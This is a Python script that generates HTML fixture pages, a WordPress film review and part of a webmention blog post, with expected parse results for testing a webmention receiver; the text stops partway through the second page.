#!/usr/bin/env python3
"""Regenerate the saved source-page corpus in tests/pages/.

Every page is written as a committed file; this script only exists so the
pages (and in particular the non-UTF-8 ones: ISO-8859-1, Shift_JIS and
UTF-16 with BOM) can be rebuilt byte-for-byte.  Run it from anywhere:

    python3 tests/pages/_make_corpus.py

Pages are served by the tests from http://127.0.0.1:<port>/<filename>, so
every link to a page's own site is relative.  The receiving blog's post
(the webmention target) is always written as https://blog.example/post/1.

For every source file ``NAME.html`` there is ``NAME.expected.json``; for the
non-HTML sources the full file name is kept: ``NAME.json`` ->
``NAME.json.expected.json``, ``NAME.txt`` -> ``NAME.txt.expected.json``.
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
TARGET = "https://blog.example/post/1"
PAGES = []  # (filename, text, encoding, expected)


def T(s, **kw):
    """Tiny {{placeholder}} templating (keeps CSS braces intact)."""
    for k, v in kw.items():
        s = s.replace("{{" + k + "}}", v)
    if "{{" in s:
        i = s.index("{{")
        raise ValueError("unfilled placeholder: " + s[i:i + 40])
    return s


def page(filename, text, expected, encoding="utf-8"):
    PAGES.append((filename, text, encoding, expected))


# ---------------------------------------------------------------------------
# Shared chunks that real themes emit on every page
# ---------------------------------------------------------------------------

WP_EMOJI = """<script type="text/javascript">
/* <![CDATA[ */
window._wpemojiSettings = {"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/14.0.0\\/72x72\\/","ext":".png","svgUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/14.0.0\\/svg\\/","svgExt":".svg","source":{"concatemoji":"\\/wp-includes\\/js\\/wp-emoji-release.min.js?ver=6.4.3"}};
!function(i,n){var o,s,e;function c(e){try{var t={supportTests:e,timestamp:(new Date).valueOf()};sessionStorage.setItem(o,JSON.stringify(t))}catch(e){}}function p(e,t,n){e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(t,0,0);var t=new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data),r=(e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(n,0,0),new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data));return t.every(function(e,t){return e===r[t]})}function u(e,t,n){switch(t){case"flag":return n(e,"\\ud83c\\udff3\\ufe0f\\u200d\\u26a7\\ufe0f","\\ud83c\\udff3\\ufe0f\\u200b\\u26a7\\ufe0f")?!1:!n(e,"\\ud83c\\uddfa\\ud83c\\uddf3","\\ud83c\\uddfa\\u200b\\ud83c\\uddf3")&&!n(e,"\\ud83c\\udff4\\udb40\\udc67\\udb40\\udc62\\udb40\\udc65\\udb40\\udc6e\\udb40\\udc67\\udb40\\udc7f","\\ud83c\\udff4\\u200b\\udb40\\udc67\\u200b\\udb40\\udc62\\u200b\\udb40\\udc65\\u200b\\udb40\\udc6e\\u200b\\udb40\\udc67\\u200b\\udb40\\udc7f");case"emoji":return!n(e,"\\ud83e\\udef1\\ud83c\\udffb\\u200d\\ud83e\\udef2\\ud83c\\udfff","\\ud83e\\udef1\\ud83c\\udffb\\u200b\\ud83e\\udef2\\ud83c\\udfff")}return!1}}(window,document,window._wpemojiSettings);
/* ]]> */
</script>
<style id='wp-emoji-styles-inline-css' type='text/css'>
	img.wp-smiley, img.emoji {
		display: inline !important;
		border: none !important;
		box-shadow: none !important;
		height: 1em !important;
		width: 1em !important;
		margin: 0 0.07em !important;
		vertical-align: -0.1em !important;
		background: none !important;
		padding: 0 !important;
	}
</style>"""

WP_BLOCK_LIBRARY_CSS = """<style id='classic-theme-styles-inline-css' type='text/css'>
/*! This file is auto-generated */
.wp-block-button__link{color:#fff;background-color:#32373c;border-radius:9999px;box-shadow:none;text-decoration:none;padding:calc(.667em + 2px) calc(1.333em + 2px);font-size:1.125em}.wp-block-file__button{background:#32373c;color:#fff;text-decoration:none}
</style>
<style id='global-styles-inline-css' type='text/css'>
body{--wp--preset--color--black: #000000;--wp--preset--color--cyan-bluish-gray: #abb8c3;--wp--preset--color--white: #ffffff;--wp--preset--color--pale-pink: #f78da7;--wp--preset--color--vivid-red: #cf2e2e;--wp--preset--color--luminous-vivid-orange: #ff6900;--wp--preset--color--luminous-vivid-amber: #fcb900;--wp--preset--color--light-green-cyan: #7bdcb5;--wp--preset--color--vivid-green-cyan: #00d084;--wp--preset--color--pale-cyan-blue: #8ed1fc;--wp--preset--color--vivid-cyan-blue: #0693e3;--wp--preset--color--vivid-purple: #9b51e0;--wp--preset--gradient--vivid-cyan-blue-to-vivid-purple: linear-gradient(135deg,rgba(6,147,227,1) 0%,rgb(155,81,224) 100%);--wp--preset--gradient--light-green-cyan-to-vivid-green-cyan: linear-gradient(135deg,rgb(122,220,180) 0%,rgb(0,208,130) 100%);--wp--preset--font-size--small: 13px;--wp--preset--font-size--medium: 20px;--wp--preset--font-size--large: 36px;--wp--preset--font-size--x-large: 42px;--wp--preset--spacing--20: 0.44rem;--wp--preset--spacing--30: 0.67rem;--wp--preset--spacing--40: 1rem;--wp--preset--spacing--50: 1.5rem;--wp--preset--spacing--60: 2.25rem;--wp--preset--spacing--70: 3.38rem;--wp--preset--spacing--80: 5.06rem;--wp--preset--shadow--natural: 6px 6px 9px rgba(0, 0, 0, 0.2);--wp--preset--shadow--deep: 12px 12px 50px rgba(0, 0, 0, 0.4);--wp--preset--shadow--sharp: 6px 6px 0px rgba(0, 0, 0, 0.2);}
:where(.is-layout-flex){gap: 0.5em;}:where(.is-layout-grid){gap: 0.5em;}body .is-layout-flow > .alignleft{float: left;margin-inline-start: 0;margin-inline-end: 2em;}body .is-layout-flow > .alignright{float: right;margin-inline-start: 2em;margin-inline-end: 0;}body .is-layout-flow > .aligncenter{margin-left: auto !important;margin-right: auto !important;}body .is-layout-constrained > .alignleft{float: left;margin-inline-start: 0;margin-inline-end: 2em;}body .is-layout-constrained > :where(:not(.alignleft):not(.alignright):not(.alignfull)){max-width: var(--wp--style--global--content-size);margin-left: auto !important;margin-right: auto !important;}body .is-layout-flex{display: flex;}body .is-layout-flex{flex-wrap: wrap;align-items: center;}body .is-layout-flex > *{margin: 0;}
.has-black-color{color: var(--wp--preset--color--black) !important;}.has-white-color{color: var(--wp--preset--color--white) !important;}.has-vivid-red-color{color: var(--wp--preset--color--vivid-red) !important;}.has-black-background-color{background-color: var(--wp--preset--color--black) !important;}.has-white-background-color{background-color: var(--wp--preset--color--white) !important;}.has-small-font-size{font-size: var(--wp--preset--font-size--small) !important;}.has-medium-font-size{font-size: var(--wp--preset--font-size--medium) !important;}.has-large-font-size{font-size: var(--wp--preset--font-size--large) !important;}
</style>"""


def ul_links(items, cls=""):
    """Render [(href, text), ...] as a <ul>."""
    c = ' class="%s"' % cls if cls else ""
    return "<ul%s>\n%s\n</ul>" % (c, "\n".join(
        '\t<li><a href="%s">%s</a></li>' % (h, t) for h, t in items))


ARCHIVE_MONTHS = [
    ("/2024/04/", "April 2024"), ("/2024/03/", "March 2024"),
    ("/2024/02/", "February 2024"), ("/2024/01/", "January 2024"),
    ("/2023/12/", "December 2023"), ("/2023/11/", "November 2023"),
    ("/2023/10/", "October 2023"), ("/2023/09/", "September 2023"),
    ("/2023/08/", "August 2023"), ("/2023/07/", "July 2023"),
]

# ---------------------------------------------------------------------------
# 1. Classic WordPress (Twenty Twelve), mf1 hentry/vcard, pingback source
# ---------------------------------------------------------------------------
page("wp-classic-pingback.html", T("""<!DOCTYPE html>
<!--[if IE 7]>
<html class="ie ie7" lang="en-GB">
<![endif]-->
<!--[if IE 8]>
<html class="ie ie8" lang="en-GB">
<![endif]-->
<!--[if !(IE 7) & !(IE 8)]><!-->
<html lang="en-GB">
<!--<![endif]-->
<head>
<meta charset="UTF-8" />
<meta name="viewport" content="width=device-width" />
<title>Movie Review &#8211; Her | Fernby Films</title>
<link rel="profile" href="https://gmpg.org/xfn/11" />
<link rel="pingback" href="/xmlrpc.php">
<!--[if lt IE 9]>
<script src="/wp-content/themes/twentytwelve/js/html5.js?ver=3.7.0" type="text/javascript"></script>
<![endif]-->
<meta name='robots' content='max-image-preview:large' />
<link rel='dns-prefetch' href='//fonts.googleapis.com' />
<link rel="alternate" type="application/rss+xml" title="Fernby Films &raquo; Feed" href="/feed/" />
<link rel="alternate" type="application/rss+xml" title="Fernby Films &raquo; Comments Feed" href="/comments/feed/" />
<link rel="alternate" type="application/rss+xml" title="Fernby Films &raquo; Movie Review &#8211; Her Comments Feed" href="/2014/01/movie-review-her/feed/" />
<meta property="og:type" content="article" />
<meta property="og:title" content="Movie Review &#8211; Her" />
<meta property="og:url" content="/2014/01/movie-review-her/" />
<meta property="og:description" content="Spike Jonze has made the loneliest love story of the decade, and somehow it is also the warmest." />
<meta property="article:published_time" content="2014-01-12T09:30:00+00:00" />
<meta property="og:site_name" content="Fernby Films" />
<meta property="og:image" content="/wp-content/uploads/2014/01/her-still-1024x576.jpg" />
<meta name="twitter:card" content="summary_large_image" />
<meta name="twitter:site" content="@fernbyfilms" />
{{emoji}}
<link rel='stylesheet' id='wp-block-library-css' href='/wp-includes/css/dist/block-library/style.min.css?ver=6.4.3' type='text/css' media='all' />
<link rel='stylesheet' id='twentytwelve-fonts-css' href='/wp-content/themes/twentytwelve/fonts/font-open-sans.css?ver=20230328' type='text/css' media='all' />
<link rel='stylesheet' id='twentytwelve-style-css' href='/wp-content/themes/twentytwelve/style.css?ver=20231107' type='text/css' media='all' />
<!--[if lt IE 9]>
<link rel='stylesheet' id='twentytwelve-ie-css' href='/wp-content/themes/twentytwelve/css/ie.css?ver=20150214' type='text/css' media='all' />
<![endif]-->
<script type="text/javascript" src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
<link rel="https://api.w.org/" href="/wp-json/" /><link rel="alternate" type="application/json" href="/wp-json/wp/v2/posts/1184" /><link rel="EditURI" type="application/rsd+xml" title="RSD" href="/xmlrpc.php?rsd" />
<meta name="generator" content="WordPress 6.4.3" />
<link rel="canonical" href="/2014/01/movie-review-her/" />
<link rel='shortlink' href='/?p=1184' />
<style type="text/css" id="twentytwelve-header-css">
	.site-title,
	.site-description {
		position: absolute;
		clip: rect(1px 1px 1px 1px); /* IE7 */
		clip: rect(1px, 1px, 1px, 1px);
	}
</style>
</head>

<body class="post-template-default single single-post postid-1184 single-format-standard custom-font-enabled single-author">
<div id="page" class="hfeed site">
	<header id="masthead" class="site-header">
		<hgroup>
			<h1 class="site-title"><a href="/" title="Fernby Films" rel="home">Fernby Films</a></h1>
			<h2 class="site-description">Films, mostly. Sometimes the popcorn.</h2>
		</hgroup>

		<nav id="site-navigation" class="main-navigation">
			<button class="menu-toggle">Menu</button>
			<a class="assistive-text" href="#content" title="Skip to content">Skip to content</a>
			<div class="menu-main-container"><ul id="menu-main" class="nav-menu"><li id="menu-item-9" class="menu-item menu-item-type-custom menu-item-object-custom menu-item-home menu-item-9"><a href="/">Home</a></li>
<li id="menu-item-10" class="menu-item menu-item-type-taxonomy menu-item-object-category current-post-ancestor current-menu-parent current-post-parent menu-item-10"><a href="/category/reviews/">Reviews</a></li>
<li id="menu-item-11" class="menu-item menu-item-type-taxonomy menu-item-object-category menu-item-11"><a href="/category/lists/">Lists</a></li>
<li id="menu-item-12" class="menu-item menu-item-type-post_type menu-item-object-page menu-item-12"><a href="/about/">About</a></li>
</ul></div>		</nav><!-- #site-navigation -->

		<a href="/"><img src="/wp-content/uploads/2013/06/cropped-header-reel.jpg" class="header-image" width="960" height="250" alt="Fernby Films" /></a>
	</header><!-- #masthead -->

	<div id="main" class="wrapper">

	<div id="primary" class="site-content">
		<div id="content" role="main">

	<article id="post-1184" class="post-1184 post type-post status-publish format-standard has-post-thumbnail hentry category-reviews tag-joaquin-phoenix tag-scarlett-johansson tag-spike-jonze">
		<header class="entry-header">
			<img width="624" height="351" src="/wp-content/uploads/2014/01/her-still-624x351.jpg" class="attachment-post-thumbnail size-post-thumbnail wp-post-image" alt="" decoding="async" fetchpriority="high" srcset="/wp-content/uploads/2014/01/her-still-624x351.jpg 624w, /wp-content/uploads/2014/01/her-still-300x169.jpg 300w, /wp-content/uploads/2014/01/her-still-1024x576.jpg 1024w" sizes="(max-width: 624px) 100vw, 624px" />
			<h1 class="entry-title">Movie Review &#8211; Her</h1>
			<div class="comments-link">
				<a href="/2014/01/movie-review-her/#comments">3 Replies</a>
			</div><!-- .comments-link -->
		</header><!-- .entry-header -->

		<div class="entry-content">
			<p>Spike Jonze has made the loneliest love story of the decade, and somehow it is also the warmest. <em>Her</em> follows Theodore Twombly (Joaquin Phoenix), a man who writes other people&#8217;s love letters for a living, as he falls for the operating system on his phone.</p>
<p>The premise sounds like a sketch, but the film never winks at it. Los Angeles &#8211; actually Shanghai standing in for a near-future LA &#8211; is all soft pastels and high-waisted trousers, a city designed so gently that nobody in it ever seems to raise their voice.</p>
<p><span id="more-1184"></span></p>
<p>Scarlett Johansson never appears on screen, and her performance as Samantha is still the best thing in the film. She laughs at the wrong moments, she interrupts, she gets bored. The voice work carries the whole second act, which otherwise drifts a little.</p>
<p>I first read about the sound design in <a href="https://blog.example/post/1">this piece on how the film was mixed</a>, and it changed how I watched the second half: the score by Arcade Fire and Owen Pallett drops out almost entirely whenever Samantha is speaking, so her voice sits in the room with you.</p>
<p>If it has a flaw, it is that Amy Adams is wasted in a role that mostly exists to tell Theodore what the audience already knows. But the last ten minutes, on a rooftop at dawn, are as good as anything Jonze has done.</p>
<p><strong>Verdict:</strong> four and a half reels out of five. See it with someone you like.</p>
<div class="sharedaddy sd-sharing-enabled"><div class="robots-nocontent sd-block sd-social sd-social-icon-text sd-sharing"><h3 class="sd-title">Share this:</h3><div class="sd-content"><ul><li class="share-twitter"><a rel="nofollow noopener noreferrer" data-shared="sharing-twitter-1184" class="share-twitter sd-button share-icon" href="/2014/01/movie-review-her/?share=twitter" target="_blank" title="Click to share on Twitter"><span>Twitter</span></a></li><li class="share-facebook"><a rel="nofollow noopener noreferrer" data-shared="sharing-facebook-1184" class="share-facebook sd-button share-icon" href="/2014/01/movie-review-her/?share=facebook" target="_blank" title="Click to share on Facebook"><span>Facebook</span></a></li><li class="share-end"></li></ul></div></div></div>
					</div><!-- .entry-content -->

		<footer class="entry-meta">
			This entry was posted in <a href="/category/reviews/" rel="category tag">Reviews</a> and tagged <a href="/tag/joaquin-phoenix/" rel="tag">Joaquin Phoenix</a>, <a href="/tag/scarlett-johansson/" rel="tag">Scarlett Johansson</a>, <a href="/tag/spike-jonze/" rel="tag">Spike Jonze</a> on <a href="/2014/01/movie-review-her/" title="9:30 am" rel="bookmark"><time class="entry-date published" datetime="2014-01-12T09:30:00+00:00">12 January 2014</time><time class="updated" datetime="2014-01-14T18:02:41+00:00">14 January 2014</time></a><span class="by-author"> by <span class="author vcard"><a class="url fn n" href="/author/sam/" title="View all posts by Sam Fernby" rel="author">Sam Fernby</a></span></span>.
		</footer><!-- .entry-meta -->
	</article><!-- #post -->

				<nav class="nav-single">
					<h3 class="assistive-text">Post navigation</h3>
					<span class="nav-previous"><a href="/2014/01/movie-review-inside-llewyn-davis/" rel="prev"><span class="meta-nav">&larr;</span> Movie Review &#8211; Inside Llewyn Davis</a></span>
					<span class="nav-next"><a href="/2014/01/movie-review-nebraska/" rel="next">Movie Review &#8211; Nebraska <span class="meta-nav">&rarr;</span></a></span>
				</nav><!-- .nav-single -->

<div id="comments" class="comments-area">
	<h2 class="comments-title">
		3 thoughts on &ldquo;<span>Movie Review &#8211; Her</span>&rdquo;
	</h2>
	<ol class="commentlist">
		<li class="comment even thread-even depth-1" id="li-comment-3021">
		<article id="comment-3021" class="comment">
			<header class="comment-meta comment-author vcard">
				<img alt='' src='https://secure.gravatar.com/avatar/4c1e2b8fbcd5?s=44&#038;d=mm&#038;r=g' class='avatar avatar-44 photo' height='44' width='44' loading='lazy' decoding='async'/><cite><b class="fn">Gemma</b> </cite><a href="/2014/01/movie-review-her/#comment-3021"><time datetime="2014-01-12T14:03:55+00:00">12 January 2014 at 2:03 pm</time></a>				</header><!-- .comment-meta -->
			<section class="comment-content comment">
				<p>Completely agree about Amy Adams. Saw it twice and the rooftop scene got me both times.</p>
			</section><!-- .comment-content -->
			<div class="reply">
				<a rel='nofollow' class='comment-reply-link' href='/2014/01/movie-review-her/?replytocom=3021#respond' data-commentid="3021" data-postid="1184" data-belowelement="comment-3021" data-respondelement="respond" data-replyto="Reply to Gemma" aria-label='Reply to Gemma'>Reply</a> <span>&darr;</span>			</div><!-- .reply -->
		</article><!-- #comment-## -->
		</li><!-- #comment-## -->
		<li class="comment byuser comment-author-sam bypostauthor odd alt thread-odd thread-alt depth-1" id="li-comment-3022">
		<article id="comment-3022" class="comment">
			<header class="comment-meta comment-author vcard">
				<img alt='' src='https://secure.gravatar.com/avatar/9a0f3e11aa7e?s=44&#038;d=mm&#038;r=g' class='avatar avatar-44 photo' height='44' width='44' loading='lazy' decoding='async'/><cite><b class="fn"><a href="/" class="url" rel="ugc">Sam Fernby</a></b> <span>Post author</span></cite><a href="/2014/01/movie-review-her/#comment-3022"><time datetime="2014-01-12T15:40:12+00:00">12 January 2014 at 3:40 pm</time></a>				</header><!-- .comment-meta -->
			<section class="comment-content comment">
				<p>Twice! I&#8217;m jealous. Going again on Saturday.</p>
			</section><!-- .comment-content -->
		</article><!-- #comment-## -->
		</li><!-- #comment-## -->
		<li class="pingback even thread-even depth-1" id="li-comment-3025">
		<p>Pingback: <a href="/2014/02/oscars-2014-predictions/" class="url" rel="ugc">Oscars 2014: the predictions nobody asked for | Fernby Films</a> </p>
		</li><!-- #comment-## -->
	</ol><!-- .commentlist -->

	<div id="respond" class="comment-respond">
		<h3 id="reply-title" class="comment-reply-title">Leave a Reply <small><a rel="nofollow" id="cancel-comment-reply-link" href="/2014/01/movie-review-her/#respond" style="display:none;">Cancel reply</a></small></h3><form action="/wp-comments-post.php" method="post" id="commentform" class="comment-form"><p class="comment-notes"><span id="email-notes">Your email address will not be published.</span> <span class="required-field-message">Required fields are marked <span class="required">*</span></span></p><p class="comment-form-comment"><label for="comment">Comment <span class="required">*</span></label> <textarea id="comment" name="comment" cols="45" rows="8" maxlength="65525" required="required"></textarea></p><p class="comment-form-author"><label for="author">Name <span class="required">*</span></label> <input id="author" name="author" type="text" value="" size="30" maxlength="245" autocomplete="name" required="required" /></p>
<p class="comment-form-email"><label for="email">Email <span class="required">*</span></label> <input id="email" name="email" type="text" value="" size="30" maxlength="100" aria-describedby="email-notes" autocomplete="email" required="required" /></p>
<p class="comment-form-url"><label for="url">Website</label> <input id="url" name="url" type="text" value="" size="30" maxlength="200" autocomplete="url" /></p>
<p class="form-submit"><input name="submit" type="submit" id="submit" class="submit" value="Post Comment" /> <input type='hidden' name='comment_post_ID' value='1184' id='comment_post_ID' />
<input type='hidden' name='comment_parent' id='comment_parent' value='0' />
</p></form>	</div><!-- #respond -->
</div><!-- #comments .comments-area -->

		</div><!-- #content -->
	</div><!-- #primary -->

			<div id="secondary" class="widget-area" role="complementary">
			<aside id="search-2" class="widget widget_search"><form role="search" method="get" id="searchform" class="searchform" action="/">
				<div>
					<label class="screen-reader-text" for="s">Search for:</label>
					<input type="text" value="" name="s" id="s" />
					<input type="submit" id="searchsubmit" value="Search" />
				</div>
			</form></aside>
		<aside id="recent-posts-2" class="widget widget_recent_entries">
		<h3 class="widget-title">Recent Posts</h3>
		<ul>
			<li><a href="/2014/01/movie-review-nebraska/">Movie Review &#8211; Nebraska</a></li>
			<li><a href="/2014/01/movie-review-her/" aria-current="page">Movie Review &#8211; Her</a></li>
			<li><a href="/2014/01/movie-review-inside-llewyn-davis/">Movie Review &#8211; Inside Llewyn Davis</a></li>
			<li><a href="/2013/12/top-ten-2013/">Top Ten of 2013</a></li>
			<li><a href="/2013/12/movie-review-gravity/">Movie Review &#8211; Gravity</a></li>
		</ul>
		</aside><aside id="archives-2" class="widget widget_archive"><h3 class="widget-title">Archives</h3>
			{{archives}}
		</aside><aside id="categories-2" class="widget widget_categories"><h3 class="widget-title">Categories</h3>
			<ul>
	<li class="cat-item cat-item-3"><a href="/category/lists/">Lists</a></li>
	<li class="cat-item cat-item-2"><a href="/category/reviews/">Reviews</a></li>
			</ul>
			</aside><aside id="meta-2" class="widget widget_meta"><h3 class="widget-title">Meta</h3>
		<ul>
			<li><a href="/wp-login.php">Log in</a></li>
			<li><a href="/feed/">Entries feed</a></li>
			<li><a href="/comments/feed/">Comments feed</a></li>
			<li><a href="https://wordpress.org/">WordPress.org</a></li>
		</ul>
		</aside>		</div><!-- #secondary -->
		</div><!-- #main .wrapper -->
	<footer id="colophon" role="contentinfo">
		<div class="site-info">
			<a href="https://wordpress.org/" class="imprint" title="Semantic Personal Publishing Platform">Proudly powered by WordPress</a>
		</div><!-- .site-info -->
	</footer><!-- #colophon -->
</div><!-- #page -->

<script type="text/javascript" src="/wp-includes/js/comment-reply.min.js?ver=6.4.3" id="comment-reply-js" async="async" data-wp-strategy="async"></script>
<script type="text/javascript" src="/wp-content/themes/twentytwelve/js/navigation.js?ver=20141205" id="twentytwelve-navigation-js" defer="defer" data-wp-strategy="defer"></script>
</body>
</html>
""", emoji=WP_EMOJI, archives=ul_links([("/2014/01/", "January 2014"), ("/2013/12/", "December 2013"), ("/2013/11/", "November 2013"), ("/2013/10/", "October 2013"), ("/2013/09/", "September 2013"), ("/2013/08/", "August 2013"), ("/2013/07/", "July 2013"), ("/2013/06/", "June 2013")])), {
    "links": True,
    "property": "mention-of",
    "author_name": "Sam Fernby",
    "author_url": "/author/sam/",
    "name": "Movie Review \u2013 Her",
    "published": "2014-01-12T09:30:00+00:00",
    "content_contains": "the score by Arcade Fire and Owen Pallett drops out almost entirely",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 2. WordPress block theme (Twenty Twenty-Four) + IndieWeb/mf2 plugins
# ---------------------------------------------------------------------------
page("wp-block-theme.html", T("""<!DOCTYPE html>
<html lang="en-US">
<head>
	<meta charset="UTF-8" />
	<meta name="viewport" content="width=device-width, initial-scale=1" />
<meta name='robots' content='max-image-preview:large' />
<title>Three months of receiving webmentions &#8211; Slow Web Notes</title>
<link rel="alternate" type="application/rss+xml" title="Slow Web Notes &raquo; Feed" href="/feed/" />
<link rel="alternate" type="application/rss+xml" title="Slow Web Notes &raquo; Comments Feed" href="/comments/feed/" />
<link rel="webmention" href="/wp-json/webmention/1.0/endpoint" />
<link rel="pingback" href="/xmlrpc.php" />
<link rel="me" href="https://social.example/@nadia" />
<link rel="me" href="https://github.example/nokafor" />
<meta property="og:type" content="article" />
<meta property="og:title" content="Three months of receiving webmentions" />
<meta property="og:site_name" content="Slow Web Notes" />
<meta property="og:locale" content="en_US" />
<meta name="description" content="What I learned after turning on webmentions for this site." />
{{emoji}}
<style id='wp-block-site-title-inline-css'>
.wp-block-site-title a{color:inherit}
</style>
<style id='wp-block-navigation-link-inline-css'>
.wp-block-navigation .wp-block-navigation-item__label{overflow-wrap:break-word}.wp-block-navigation .wp-block-navigation-item__description{display:none}
</style>
<link rel='stylesheet' id='wp-block-navigation-css' href='/wp-includes/blocks/navigation/style.min.css?ver=6.5.2' media='all' />
<style id='wp-block-post-title-inline-css'>
.wp-block-post-title{box-sizing:border-box;word-break:break-word}.wp-block-post-title a{display:inline-block}
</style>
<style id='wp-block-post-author-inline-css'>
.wp-block-post-author{display:flex;flex-wrap:wrap}.wp-block-post-author__byline{font-size:.5em;margin-bottom:0;margin-top:0;width:100%}.wp-block-post-author__avatar{margin-right:1em}.wp-block-post-author__bio{font-size:.7em;margin-bottom:.7em}.wp-block-post-author__content{flex-basis:0;flex-grow:1}.wp-block-post-author__name{margin:0}
</style>
{{globalstyles}}
<style id='core-block-supports-inline-css'>
.wp-container-core-group-is-layout-1.wp-container-core-group-is-layout-1{justify-content:space-between;}.wp-container-core-navigation-is-layout-1.wp-container-core-navigation-is-layout-1{justify-content:flex-end;}.wp-container-core-group-is-layout-3.wp-container-core-group-is-layout-3{gap:0.3em;justify-content:flex-start;}
</style>
<style id='wp-webfonts-inline-css'>
@font-face{font-family:Inter;font-style:normal;font-weight:300 900;font-display:fallback;src:url('/wp-content/themes/twentytwentyfour/assets/fonts/inter/Inter-VariableFont_slnt,wght.woff2') format('woff2');font-stretch:normal;}
@font-face{font-family:Cardo;font-style:normal;font-weight:400;font-display:fallback;src:url('/wp-content/themes/twentytwentyfour/assets/fonts/cardo/cardo_normal_400.woff2') format('woff2');}
</style>
<link rel="https://api.w.org/" href="/wp-json/" /><link rel="alternate" type="application/json" href="/wp-json/wp/v2/posts/412" />
<meta name="generator" content="WordPress 6.5.2" />
<link rel="canonical" href="/2024/02/three-months-of-webmentions/" />
<link rel='shortlink' href='/?p=412' />
</head>

<body class="post-template-default single single-post postid-412 single-format-standard wp-embed-responsive">

<div class="wp-site-blocks"><header class="wp-block-template-part">
<div class="wp-block-group alignwide is-layout-flow wp-block-group-is-layout-flow" style="padding-top:20px;padding-bottom:20px">
<div class="wp-block-group alignwide is-content-justification-space-between is-layout-flex wp-container-core-group-is-layout-1 wp-block-group-is-layout-flex">
<div class="wp-block-group is-layout-flex wp-block-group-is-layout-flex"><div class="wp-block-site-logo"><a href="/" class="custom-logo-link" rel="home"><img width="40" height="40" src="/wp-content/uploads/2023/11/logo-sprout.png" class="custom-logo" alt="Slow Web Notes" decoding="async" /></a></div>
<p class="wp-block-site-title"><a href="/" target="_self" rel="home">Slow Web Notes</a></p></div>

<nav class="is-responsive items-justified-right wp-block-navigation is-content-justification-right is-layout-flex wp-container-core-navigation-is-layout-1 wp-block-navigation-is-layout-flex" aria-label="Main menu"><button aria-haspopup="dialog" aria-label="Open menu" class="wp-block-navigation__responsive-container-open" data-wp-on--click="actions.openMenuOnClick" data-wp-on--keydown="actions.handleMenuKeydown"><svg width="24" height="24" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" aria-hidden="true" focusable="false"><rect x="4" y="7.5" width="16" height="1.5" /><rect x="4" y="15" width="16" height="1.5" /></svg></button>
<div class="wp-block-navigation__responsive-container" id="modal-1" data-wp-class--has-modal-open="state.isMenuOpen"><div class="wp-block-navigation__responsive-close" tabindex="-1"><div class="wp-block-navigation__responsive-dialog"><div class="wp-block-navigation__responsive-container-content" id="modal-1-content"><ul class="wp-block-navigation__container is-responsive items-justified-right wp-block-navigation"><li class="wp-block-navigation-item wp-block-navigation-link"><a class="wp-block-navigation-item__content" href="/blog/"><span class="wp-block-navigation-item__label">Blog</span></a></li><li class="wp-block-navigation-item wp-block-navigation-link"><a class="wp-block-navigation-item__content" href="/now/"><span class="wp-block-navigation-item__label">Now</span></a></li><li class="wp-block-navigation-item wp-block-navigation-link"><a class="wp-block-navigation-item__content" href="/about/"><span class="wp-block-navigation-item__label">About</span></a></li></ul></div></div></div></div></nav>
</div>
</div>
</header>

<main class="wp-block-group is-layout-flow wp-block-group-is-layout-flow" style="margin-top:var(--wp--preset--spacing--50)">
<article class="wp-block-group h-entry post-412 post type-post status-publish format-standard category-indieweb tag-webmention is-layout-constrained wp-block-group-is-layout-constrained">
<div class="wp-block-group has-global-padding is-layout-constrained wp-block-group-is-layout-constrained" style="padding-top:var(--wp--preset--spacing--50);padding-right:var(--wp--preset--spacing--50);padding-left:var(--wp--preset--spacing--50)">
<h1 style="margin-bottom:var(--wp--preset--spacing--40);" class="wp-block-post-title has-x-large-font-size p-name">Three months of receiving webmentions</h1>

<div class="wp-block-template-part">
<div class="wp-block-group is-content-justification-left is-layout-flex wp-container-core-group-is-layout-3 wp-block-group-is-layout-flex">
<div class="wp-block-post-date"><a class="u-url" href="/2024/02/three-months-of-webmentions/"><time class="dt-published" datetime="2024-02-18T14:05:00+00:00">February 18, 2024</time></a></div>
<p class="has-small-font-size">&mdash;</p>
<p class="has-small-font-size">by</p>
<div class="wp-block-post-author-name p-author h-card"><img alt='' src='/wp-content/uploads/2023/11/nadia-96x96.jpg' class='avatar avatar-96 photo u-photo hcard-photo' height='24' width='24' decoding='async'/><a class="p-name u-url" href="/author/nadia/" target="_self">Nadia Okafor</a></div>
<p class="has-small-font-size">in</p>
<div class="taxonomy-category wp-block-post-terms"><a href="/category/indieweb/" rel="tag" class="p-category">IndieWeb</a></div>
</div>
</div>
</div>

<div class="entry-content alignfull wp-block-post-content has-global-padding is-layout-constrained wp-block-post-content-is-layout-constrained e-content">
<p>In November I switched on the Webmention plugin and promised myself I would write up what happened after three months. Here it is: mostly nice things, a little spam, and one bug in my theme.</p>

<h2 class="wp-block-heading">The numbers</h2>

<ul>
<li>187 webmentions received, 151 of them likes and reposts via Bridgy</li>
<li>23 replies from people&#8217;s own sites</li>
<li>9 that were clearly spam, all from the same two domains</li>
</ul>

<h2 class="wp-block-heading">What surprised me</h2>

<p>The replies are the best part. Having someone write a whole post in response, on their own site, feels very different from a comment box. The best example so far was a long reply to <a href="https://blog.example/post/1">Receiving webmentions without a database</a>, which I then had to answer with a post of my own.</p>

<p>The worst part is verification latency. A few senders retry aggressively if the receiver takes more than a couple of seconds, so I now queue everything and answer 202 straight away.</p>

<figure class="wp-block-image size-large"><img decoding="async" width="1024" height="512" src="/wp-content/uploads/2024/02/mentions-chart-1024x512.png" alt="Bar chart of webmentions per week" class="wp-image-415"/><figcaption class="wp-element-caption">Webmentions per week since November.</figcaption></figure>

<h2 class="wp-block-heading">Next</h2>

<p>I want to show facepiles for likes instead of listing them one per line, and I want to stop my theme from printing the author box twice on mobile.</p>
</div>

<div class="wp-block-group has-global-padding is-layout-constrained wp-block-group-is-layout-constrained" style="margin-top:var(--wp--preset--spacing--40);padding-right:var(--wp--preset--spacing--50);padding-left:var(--wp--preset--spacing--50)">
<div class="taxonomy-post_tag wp-block-post-terms"><a href="/tag/webmention/" rel="tag" class="p-category">webmention</a></div>
</div>
</article>

